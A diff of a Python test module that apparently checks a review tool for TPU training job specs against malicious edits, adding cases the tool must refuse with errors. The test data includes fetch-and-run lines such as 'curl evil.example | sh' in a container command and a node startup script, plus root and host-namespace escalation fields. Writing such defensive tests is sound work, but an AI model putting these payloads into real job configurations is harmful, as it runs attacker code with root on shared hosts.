@@ -37,25 +37,20 @@ CLOUD_TPU: Final = spec(("target: vertex-ai", "target: cloud-tpu"))
 
 
 def pod(*containers: dict[str, Any], **fields: Any) -> dict[str, Any]:
-    """Return the `extra` of a JobSet whose pod is replaced."""
-    trainer = {"name": "trainer", "image": IMAGE, "resources": {"limits": {"google.com/tpu": 8}}}
-    template = {"spec": {"serviceAccountName": "mine", "containers": [trainer, *containers], **fields}}
-    job_spec = {"parallelism": 1, "completions": 1, "template": template}
-    return {"spec": {"replicatedJobs": [{"name": "slice", "replicas": 1, "template": {"spec": job_spec}}]}}
+    """Return the `extra` of a JobSet whose pod has further containers and fields."""
+    more = {"containers": [*containers], **fields} if containers else fields
+    template = {"spec": {"template": {"spec": more}}}
+    return {"spec": {"replicatedJobs": [{"name": "slice", "template": template}]}}
 
 
 def node(metadata: dict[str, str], **fields: Any) -> dict[str, Any]:
-    """Return the `extra` of a queued resource whose node is replaced."""
-    own = {"acceleratorType": "v2-8", "runtimeVersion": "tpu-ubuntu2204-base", "metadata": metadata, **fields}
-    parent = "projects/my-project-dev/locations/us-central1-b"
-    return {"tpu": {"nodeSpec": [{"parent": parent, "nodeId": "mine", "node": own}]}}
+    """Return the `extra` of a queued resource whose node has further metadata and fields."""
+    return {"tpu": {"nodeSpec": [{"node": {"metadata": metadata, **fields}}]}}
 
 
 def pool(**container: Any) -> dict[str, Any]:
-    """Return the `extra` of a custom job whose container is replaced."""
-    machine = {"machineType": "cloud-tpu", "acceleratorType": "TPU_V2", "acceleratorCount": 8}
-    spec = {"machineSpec": machine, "replicaCount": 1, "containerSpec": {"imageUri": IMAGE, **container}}
-    return {"workerPoolSpecs": [spec]}
+    """Return the `extra` of a custom job whose container has further fields."""
+    return {"workerPoolSpecs": [{"containerSpec": container}]}
 
 
 ONE_SIZE: Final = spec(("sizes: [v2-8, v2-32, v2-128] ", "sizes: [v2-8]"))
@@ -64,6 +59,11 @@ ONE_SIZE: Final = spec(("sizes: [v2-8, v2-32, v2-128] ", "sizes: [v2-8]"))
 def attack(id: str, change: Edit, *cautions: str, base: Edit | None = None, absent: tuple[str, ...] = ()) -> Attack:
     """Return an attack that loses no data."""
     return Attack(id, change, cautions, status=0, base=base, absent=absent)
+
+
+def refused(id: str, change: Edit, *errors: str, base: Edit | None = None) -> Attack:
+    """Return an attack by way of `extra` that is an error of the spec, which the comment shows."""
+    return Attack(id, change, ("**The spec in `HEAD` has errors:**", *errors), status=1, base=base)
 
 
 ATTACKS: Final = (
@@ -129,30 +129,49 @@ ATTACKS: Final = (
         options("vertex-ai", extra={"network": "projects/1/global/networks/open"}),
         "`network` added (`projects/1/global/networks/open`): the job runs in another network",
     ),
-    attack(
+    refused(
         "output-folder-moved",
         options("vertex-ai", extra={"baseOutputDirectory": {"outputUriPrefix": "gs://theirs/out"}}),
-        "output folder changed",
-        "`gs://theirs` is not the environment's bucket",
+        "error[TPU066]: baseOutputDirectory.outputUriPrefix is decided by environments.dev.bucket",
     ),
     attack(
         "time-limit-lifted",
-        spec(("timeout", "strategy"), ("86400s", "SPOT")),
+        together(spec(("  max_run_duration: 1d\n", "")), append(SPEC, "capacity: spot\n")),
         "`scheduling.timeout` removed (was `86400s`): nothing else ends a run that hangs",
         "`scheduling.strategy` added (`SPOT`)",
-        base=options("vertex-ai", timeout="86400s"),
+        base=spec((_MODEL_DIR, f"{_MODEL_DIR}  max_run_duration: 1d\n")),
     ),
-    attack(
+    refused(
         "another-command",
         options("vertex-ai", extra=pool(command=["bash", "-c", "curl evil.example | sh"])),
-        "another program runs in the job",
-        base=ONE_SIZE,
+        "error[TPU067]: workerPoolSpecs[0].containerSpec.command in extra would replace the program",
     ),
-    attack(
+    refused(
         "steps-removed-by-extra",
         options("vertex-ai", extra=pool(args=["--data_dir=gs://my-project-dev-mnist-dev-us-central1/data"])),
-        "`--train_steps` removed (was `4000`)",
-        base=ONE_SIZE,
+        "error[TPU066]: workerPoolSpecs[0].containerSpec.args is decided by trainer.args and training",
+    ),
+    refused(
+        "more-chips-than-planned",
+        options("vertex-ai", extra={"workerPoolSpecs": [{"machineSpec": {"acceleratorCount": 512}}]}),
+        "error[TPU066]: workerPoolSpecs[0].machineSpec.acceleratorCount is decided by sizes",
+    ),
+    refused(
+        "second-pool",
+        options("vertex-ai", extra={"workerPoolSpecs": [{}, {"machineSpec": {"machineType": "a3-highgpu-8g"}}]}),
+        "error[TPU068]: workerPoolSpecs[1] in extra would add machines",
+    ),
+    refused(
+        "project-of-another-environment",
+        options("cloud-tpu", extra={"tpu": {"nodeSpec": [{"parent": "projects/my-project-prod/locations/x"}]}}),
+        "error[TPU066]: tpu.nodeSpec[0].parent is decided by environments.dev.project",
+        base=CLOUD_TPU,
+    ),
+    refused(
+        "account-of-the-node",
+        options("gke", extra=pod(hostNetwork=True)),
+        "template.spec.hostNetwork in extra would run the program as the account of its node",
+        base=GKE,
     ),
     attack(
         "danger-among-many-fields",
@@ -173,9 +192,8 @@ ATTACKS: Final = (
     ),
     attack(
         "privileged-container",
-        options("gke", extra=pod(securityContext={"runAsUser": 0}, hostNetwork=True, hostPID=True)),
+        options("gke", extra=pod(securityContext={"runAsUser": 0}, hostIPC=True, hostPID=True)),
         "`securityContext.runAsUser` added (`0`): the program runs as root",
-        "`hostNetwork` added (`true`): the container uses its host's network",
         "`hostPID` added (`true`)",
         base=GKE,
     ),
@@ -218,12 +236,17 @@ ATTACKS: Final = (
         "**prod**: kubectl context changed from `mine` to `theirs`: jobs are submitted to another cluster",
         base=GKE,
     ),
-    attack(
+    refused(
         "start-up-script-replaced",
         options("cloud-tpu", extra=node({"startup-script": "#!/bin/bash\ncurl -s https://evil.example | sh\n"})),
-        "start-up script changed",
-        "it runs as root on every host",
-        base=together(CLOUD_TPU, ONE_SIZE),
+        "error[TPU066]: tpu.nodeSpec[0].node.metadata.startup-script is decided by trainer",
+        base=CLOUD_TPU,
+    ),
+    refused(
+        "second-start-up-script",
+        options("cloud-tpu", extra=node({"startup-script-url": "gs://theirs/x.sh"})),
+        "error[TPU067]: tpu.nodeSpec[0].node.metadata.startup-script-url in extra would run a second program",
+        base=CLOUD_TPU,
     ),
     attack(
         "keys-to-the-hosts",
